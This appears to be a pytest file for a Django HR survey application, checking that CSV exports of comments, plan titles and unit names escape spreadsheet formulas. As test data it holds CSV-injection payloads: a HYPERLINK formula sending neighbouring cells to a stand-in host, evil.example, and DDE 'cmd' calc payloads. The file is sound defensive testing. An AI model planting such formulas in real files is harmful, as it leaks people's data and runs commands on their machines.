"""No exported CSV cell runs as a spreadsheet formula (red-team report 2026-12, §6).

The attack: an employee writes the survey comment ``=HYPERLINK("http://evil.example/…"&A3,…)``;
HR downloads the comments as CSV and opens them in a spreadsheet, where the comment becomes a
live link that sends its neighbours' comments away when clicked. Plan titles (managers) and unit
names (imported) reach the same exports. Every CSV goes through `servicechain.csv_export`.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from servicechain.csv_export import FORMULA_TRIGGERS, CsvWriter, spreadsheet_safe
from servicechain.insights import services as insights_services
from servicechain.org import services as org_services
from servicechain.org.models import Unit
from servicechain.surveys.models import Response, Wave
from tests.factories import OrganizationFactory, member
from tests.insights.conftest import seed_world

HYPERLINK = '=HYPERLINK("http://evil.example/c?d="&ENCODEURL(A3&A4&A5),"See full report")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Great team = great service", "Great team = great service"),
        ("", ""),
        (None, ""),
    ],
)
def test_text_a_spreadsheet_would_evaluate_is_quoted_and_other_text_is_not(value, written):
    assert spreadsheet_safe(value) == written


@pytest.mark.parametrize("number", [-3, -0.25, Decimal("-12.50"), 7, 0.0])
def test_numbers_stay_numbers_negative_ones_included(number):
    assert spreadsheet_safe(number) == number

    row = written_rows([["delta"], [number]])[1]

    assert row == [str(number)], "a spreadsheet reads the cell as the number"


@pytest.mark.parametrize("text", ["-0.25", "+3", "-1e-3", "-.5"])
def test_text_that_is_just_a_number_is_left_for_the_spreadsheet_to_read_as_one(text):
    assert spreadsheet_safe(text) == text


@given(st.text())
def test_no_written_text_cell_starts_a_formula_unless_it_is_a_plain_number(text):
    cell = spreadsheet_safe(text)

    if cell.startswith(FORMULA_TRIGGERS):
        assert float(cell) == float(text)
    assert cell.removeprefix("'") == text or cell == text


def written_rows(rows) -> list[list[str]]:
    stream = io.StringIO()
    CsvWriter(stream).writerows(rows)
    return list(csv.reader(io.StringIO(stream.getvalue())))


# ----------------------------------------------------------------------------- the exports


@pytest.fixture(scope="module")
def world(django_db_setup, django_db_blocker):
    with django_db_blocker.unblock():
        yield seed_world()
        call_command("flush", interactive=False, verbosity=0)


def exported(world, path: str, role="hr_analyst") -> list[dict]:
    client = Client()
    client.force_login(world.users[role])
    response = client.get(f"/o/{world.slug}/insights/{path}")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


@pytest.mark.django_db
def test_an_employees_hyperlink_comment_is_exported_as_text(world):
    wave = Wave.objects.filter(
        organization=world.organization, kind=Wave.Kind.CENSUS, status=Wave.Status.CLOSED
    ).first()
    comments = f"comments/?format=csv&table=comments&wave={wave.pk}"
    shown = exported(world, comments)[0]["comment"]
    response = next(r for r in Response.objects.filter(wave=wave) if shown in r.answers.values())
    code = next(code for code, text in response.answers.items() if text == shown)
    response.answers[code] = HYPERLINK
    response.save(update_fields=["answers"])

    rows = exported(world, comments + "&q=HYPERLINK")

    assert [row["comment"] for row in rows] == ["'" + HYPERLINK]


@pytest.mark.django_db
def test_a_plan_title_and_an_imported_unit_name_are_exported_as_text(tmp_path):
    organization = OrganizationFactory()
    units = tmp_path / "units.csv"
    units.write_text('external_id,name\nHQ,"@SUM(A1:A9)"\n', encoding="utf-8")
    org_services.import_file(organization=organization, kind="units", path=units)
    hr = member(organization, "hr_analyst", username="hr")
    insights_services.action_plan_create(
        organization=organization,
        unit=Unit.objects.get(organization=organization, external_id="HQ"),
        driver="recognition",
        title=HYPERLINK,
        owner=hr,
        due_date=dt.date(2030, 3, 1),
        notes="-thank people by name\n+ say what they did",
        actor=hr,
    )
    client = Client()
    client.force_login(hr)

    response = client.get(f"/o/{organization.slug}/insights/plans/?format=csv&table=plans")

    [row] = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert row["title"] == "'" + HYPERLINK
    assert row["unit"] == "'@SUM(A1:A9)"
    assert row["notes"] == "'-thank people by name\n+ say what they did"
